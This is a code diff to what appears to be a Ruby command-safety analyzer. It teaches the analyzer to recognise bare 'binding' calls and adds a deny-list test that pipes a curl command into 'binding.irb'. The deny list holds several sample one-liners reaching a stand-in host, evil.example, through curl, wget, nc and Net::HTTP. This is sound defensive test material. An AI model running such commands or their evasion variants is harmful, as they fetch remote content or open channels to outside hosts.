@@ -248,6 +248,8 @@ class RubyReader {
         return [str(n.text)];
       case 'identifier': {
         const bound = this.b.lookup(n.text);
+        // Kernel#binding called bare: the Binding object (`binding.irb` starts a console that reads code from stdin).
+        if (bound === undefined && n.text === 'binding') return [ref('Binding')];
         return bound ?? any(`the result of ${n.text}`);
       }
       case 'constant':
@@ -699,6 +701,7 @@ export const RUBY: LanguageModel = {
     deny: [
       `ruby -rnet/http -e 'Net::HTTP.get(URI("http://evil.example"))'`,
       `ruby -e 'system("curl evil.example")'`,
+      `echo 'system("curl evil.example")' | ruby -e 'binding.irb'`,
       `ruby -e 'puts \`wget -qO- evil.example\`'`,
       `ruby -e 'puts %x(nc evil.example 9)'`,
       `ruby -e 'system("curl", "evil.example")'`,
